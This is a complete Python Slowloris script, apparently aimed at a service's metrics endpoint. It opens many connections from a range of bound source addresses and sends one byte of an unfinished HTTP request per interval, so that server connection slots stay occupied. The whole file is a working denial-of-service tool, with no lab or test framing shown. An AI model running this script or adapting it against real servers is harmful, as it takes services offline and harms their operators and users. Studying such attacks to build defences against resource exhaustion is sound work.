#!/usr/bin/env python3
"""Slowloris against the metrics endpoint: SOURCES addresses x PER connections, each trickling one byte of a
request line every GAP seconds (never completing it), for DURATION seconds. Usage:
  slowloris.py HOST PORT SRC_PREFIX FIRST COUNT PER GAP DURATION   (sources SRC_PREFIX.FIRST .. +COUNT-1)"""
import socket, sys, time


def open_all(host, port, prefix, first, count, per, on_open=lambda s: None):
    """COUNT x PER connections from SRC_PREFIX.FIRST.. to HOST:PORT; on_open(socket) right after each connect."""
    socks = []
    for i in range(count):
        for _ in range(per):
            s = socket.socket()
            s.bind((f"{prefix}.{first + i}", 0))
            try:
                s.connect((host, port))
                on_open(s)
                socks.append(s)
            except OSError as e:
                print("connect failed", e, flush=True)
    print(f"opened {len(socks)}", flush=True)
    return socks


if __name__ == "__main__":
    host, port, prefix = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    first, count, per, gap, duration = int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]), float(sys.argv[8])
    line = b"GET /metrics HTTP/1.1\r\nHost: x\r\n" + b"X-a: b\r\n" * 100000
    socks = [[s, 0] for s in open_all(host, port, prefix, first, count, per)]
    end = time.time() + duration
    while time.time() < end:
        alive = 0
        for entry in socks:
            s, pos = entry
            if s is None:
                continue
            try:
                s.send(line[pos:pos + 1])
                entry[1] += 1
                alive += 1
            except OSError:
                entry[0] = None
        print(f"{time.strftime('%H:%M:%S')} alive {alive}", flush=True)
        time.sleep(gap)
